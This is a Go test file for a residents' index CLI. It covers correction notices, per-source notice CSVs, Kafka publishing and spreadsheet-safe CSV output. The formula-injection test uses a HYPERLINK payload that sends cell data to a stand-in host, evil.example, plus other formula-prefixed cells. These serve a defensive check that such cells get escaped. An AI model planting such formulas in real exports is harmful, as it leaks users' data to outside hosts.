package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	kafkago "github.com/segmentio/kafka-go"

	"github.com/resindex/resindex"
)

// Rectification told once, end to end through the commands: a borough
// is loaded, corrections are recorded with `rectify`, each source's CSV
// (`notices`) lists exactly its notices, the index's persons do not
// change, and `serve` publishes one message per (notice, source) to the
// notices topic of an in-process Kafka-protocol broker, read back with
// kafka-go.

// personSources maps each person of a store to their records by source.
func personSources(t *testing.T, data string) map[string]map[string][]string {
	t.Helper()
	clusters := filepath.Join(t.TempDir(), "clusters.csv")
	mustRun(t, "export", "clusters", "--data", data, "--out", clusters)
	out := map[string]map[string][]string{}
	for _, l := range strings.Split(strings.TrimSpace(mustReadFile(t, clusters)), "\n")[1:] {
		f := strings.Split(l, ",")
		if out[f[2]] == nil {
			out[f[2]] = map[string][]string{}
		}
		out[f[2]][f[0]] = append(out[f[2]][f[0]], f[1])
	}
	return out
}

// widest is the person with records in the most sources (the least ID
// among equals, so that the test is the same every run).
func widest(persons map[string]map[string][]string, not string) string {
	best := ""
	for _, pid := range slices.Sorted(maps.Keys(persons)) {
		if pid != not && (best == "" || len(persons[pid]) > len(persons[best])) {
			best = pid
		}
	}
	return best
}

func rectify(t *testing.T, args ...string) resindex.Notice {
	t.Helper()
	out, _ := mustRun(t, append([]string{"rectify"}, args...)...)
	var n resindex.Notice
	if err := json.Unmarshal([]byte(out), &n); err != nil {
		t.Fatalf("rectify printed %q: %v", out, err)
	}
	return n
}

// wantTargets are a person's sources but the one that was told.
func wantTargets(srcs map[string][]string, via string) map[string][]string {
	out := maps.Clone(srcs)
	delete(out, via)
	for s := range out {
		out[s] = slices.Sorted(slices.Values(out[s]))
	}
	return out
}

func targetsOf(n resindex.Notice) map[string][]string {
	out := map[string][]string{}
	for _, tg := range n.Targets {
		out[tg.Source] = tg.Records
	}
	return out
}

func TestRectifyNoticesAndServe(t *testing.T) {
	dir := t.TempDir()
	mustRun(t, "gen", "--persons", "300", "--seed", "9", "--out", dir, "--quiet")
	data := filepath.Join(dir, "store")
	mustRun(t, "ingest", "--canonical", filepath.Join(dir, "canonical"), "--data", data, "--bulk", "--quiet")
	before := personSources(t, data)
	a := widest(before, "")
	b := widest(before, a)
	if len(before[a]) < 3 || len(before[b]) < 2 {
		t.Fatalf("the borough's widest persons hold %d and %d sources; want at least 3 and 2", len(before[a]), len(before[b]))
	}
	via := slices.Sorted(maps.Keys(before[a]))[0]
	n1 := rectify(t, "--data", data, "--person", a, "--field", "address", "--line", "12 Elm Road", "--line", "Hackney",
		"--postcode", "e8 1aa", "--reported-via", via, "--reason", "the resident phoned")
	n2 := rectify(t, "--data", data, "--person", b, "--field", "name", "--given", "Anne", "--family", "Lee-Smith", "--reason", "deed poll seen")
	if n1.Seq != 1 || n2.Seq != 2 || n1.Person != a || n2.Person != b {
		t.Fatalf("notices %d (%s) and %d (%s), want 1 (%s) and 2 (%s)", n1.Seq, n1.Person, n2.Seq, n2.Person, a, b)
	}
	for _, c := range []struct {
		n    resindex.Notice
		want map[string][]string
	}{{n1, wantTargets(before[a], via)}, {n2, wantTargets(before[b], "")}} {
		if got := targetsOf(c.n); !maps.EqualFunc(got, c.want, slices.Equal) {
			t.Errorf("notice %d is for %v, want every other source holding the person: %v", c.n.Seq, got, c.want)
		}
	}
	if _, errs, code := runCLI(t, "rectify", "--data", data, "--person", a, "--field", "dob", "--dob", "1980-02-30", "--reason", "x"); code != 2 || !strings.Contains(errs, "dob") {
		t.Errorf("a date that does not exist: exit %d, %s; want 2 naming dob", code, errs)
	}
	checkSourceCSVs(t, data, []resindex.Notice{n1, n2})
	if after := personSources(t, data); !maps.EqualFunc(after, before, func(x, y map[string][]string) bool { return maps.EqualFunc(x, y, slices.Equal) }) {
		t.Error("rectification changed the index's persons")
	}
	checkNoticesTopic(t, data, []resindex.Notice{n1, n2})
}

// checkSourceCSVs: each source's CSV lists exactly the notices for it,
// with its own record IDs; --after leaves out those it has.
func checkSourceCSVs(t *testing.T, data string, notices []resindex.Notice) {
	t.Helper()
	for _, src := range resindex.Sources {
		var want []string
		for _, n := range notices {
			if ids, ok := targetsOf(n)[src]; ok {
				want = append(want, n.Person+" "+strings.Join(ids, ";"))
			}
		}
		out, _ := mustRun(t, "notices", "--data", data, "--source", src)
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(rows[0], ",") != strings.Join(noticeColumns, ",") {
			t.Fatalf("%s's CSV header %v", src, rows[0])
		}
		var got []string
		for _, r := range rows[1:] {
			if r[2] != src {
				t.Fatalf("%s's CSV has a row for %s", src, r[2])
			}
			got = append(got, r[4]+" "+r[3])
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s's CSV lists %v, want %v", src, got, want)
		}
		if out, _ := mustRun(t, "notices", "--data", data, "--source", src, "--after", "2"); strings.Count(out, "\n") != 1 {
			t.Errorf("%s's CSV after notice 2: %q, want the header alone", src, out)
		}
	}
	if _, _, code := runCLI(t, "notices", "--data", data, "--source", "council_tax", "--role", "frontline"); code == 0 {
		t.Error("frontline wrote the notices")
	}
}

// checkNoticesTopic: serve publishes one message per (notice, source),
// keyed by the source, with the notice's values.
func checkNoticesTopic(t *testing.T, data string, notices []resindex.Notice) {
	t.Helper()
	addr := kafkaBroker(t)
	var out, errb bytes.Buffer
	code := run(context.Background(), []string{"serve", "--data", data, "--brokers", strings.Join(addr, ","), "--topics", "all",
		"--stop-when-idle", "1500ms", "--quiet"}, &env{stdout: &out, stderr: &errb})
	if code != 0 {
		t.Fatalf("serve: exit %d\n%s", code, errb.String())
	}
	want := map[string]bool{}
	for _, n := range notices {
		for _, m := range n.Messages() {
			raw, _ := json.Marshal(m)
			want[m.Source+"\t"+string(raw)] = true
		}
	}
	got := readTopic(t, addr[0], "resindex.notices", 2)
	slices.Sort(got)
	got = slices.Compact(got) // at least once: a repeat is allowed
	if !slices.Equal(got, slices.Sorted(maps.Keys(want))) {
		t.Errorf("resindex.notices holds\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(slices.Sorted(maps.Keys(want)), "\n"))
	}
	// Per source: serve again with --notices-per-source; each source's
	// topic then holds exactly its own messages, from the first notice,
	// and the one topic nothing more.
	code = run(context.Background(), []string{"serve", "--data", data, "--brokers", strings.Join(addr, ","), "--topics", "all",
		"--notices-per-source", "--stop-when-idle", "1500ms", "--quiet"}, &env{stdout: &out, stderr: &errb})
	if code != 0 {
		t.Fatalf("serve --notices-per-source: exit %d\n%s", code, errb.String())
	}
	var all []string
	for _, src := range resindex.Sources {
		got := readTopic(t, addr[0], "resindex.notices."+src, 2)
		for _, m := range got {
			if !strings.HasPrefix(m, src+"\t") {
				t.Errorf("resindex.notices.%s holds a message for another source: %s", src, m)
			}
		}
		all = append(all, got...)
	}
	slices.Sort(all)
	if all = slices.Compact(all); !slices.Equal(all, slices.Sorted(maps.Keys(want))) {
		t.Errorf("the per-source topics hold\n%s\nwant\n%s", strings.Join(all, "\n"), strings.Join(slices.Sorted(maps.Keys(want)), "\n"))
	}
	if again := readTopic(t, addr[0], "resindex.notices", 2); len(slices.Compact(slices.Sorted(slices.Values(again)))) != len(want) {
		t.Errorf("resindex.notices holds %d messages after publishing per source; want the %d it had", len(again), len(want))
	}
}

// readTopic reads every message of a topic's partitions as key, tab,
// value.
func readTopic(t *testing.T, addr, topic string, partitions int) []string {
	t.Helper()
	var out []string
	for p := range partitions {
		conn, err := kafkago.DialLeader(context.Background(), "tcp", addr, topic, p)
		if err != nil {
			continue
		}
		first, last, err := conn.ReadOffsets()
		if err != nil {
			t.Fatal(err)
		}
		conn.Seek(first, kafkago.SeekAbsolute)
		conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		for off := first; off < last; off++ {
			m, err := conn.ReadMessage(1 << 20)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, string(m.Key)+"\t"+string(m.Value))
		}
		conn.Close()
	}
	return out
}

// TestNoticesCSVSpreadsheetSafe: a cell a spreadsheet would take for a
// formula is written with a single quote before it (record IDs come from
// the sources as they are); other cells are written as they are.
func TestNoticesCSVSpreadsheetSafe(t *testing.T) {
	at := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		name       string
		records    []string
		given      string
		want, cell string // want: the cell read back from column cell
	}{
		{"plain", []string{"TEN0003042-01"}, "Anne", "TEN0003042-01", "record_ids"},
		{"equals", []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`}, "Anne", `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "record_ids"},
		{"plus", []string{"+44"}, "Anne", "'+44", "record_ids"},
		{"minus", []string{"-1", "X"}, "Anne", "'-1;X", "record_ids"},
		{"at", []string{"@SUM(A1)"}, "Anne", "'@SUM(A1)", "record_ids"},
		{"tab", []string{"\t=1"}, "Anne", "'\t=1", "record_ids"},
		{"carriage return", []string{"\r=1"}, "Anne", "'\r=1", "record_ids"},
		{"inner equals kept", []string{"A=1"}, "Anne", "A=1", "record_ids"},
		{"a name too", []string{"H1"}, "=1+1", "'=1+1", "given"},
	} {
		msg := resindex.NoticeMessage{Seq: 1, IssuedAt: at, Source: "housing", Records: c.records, Person: "P0000000001",
			Field: "name", Name: &resindex.CorrectedName{Given: c.given, Family: "Lee"}}
		var b bytes.Buffer
		if err := writeNoticesCSV(&b, []resindex.NoticeMessage{msg}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %d rows, %v", c.name, len(rows), err)
		}
		col := slices.Index(rows[0], c.cell)
		if got := rows[1][col]; got != c.want {
			t.Errorf("%s: %s %q; want %q", c.name, c.cell, got, c.want)
		}
		if rows[1][0] != "1" || rows[1][1] != "2026-11-01T09:00:00Z" || rows[1][slices.Index(rows[0], "family")] != "Lee" {
			t.Errorf("%s: other cells changed: %q", c.name, rows[1])
		}
	}
}
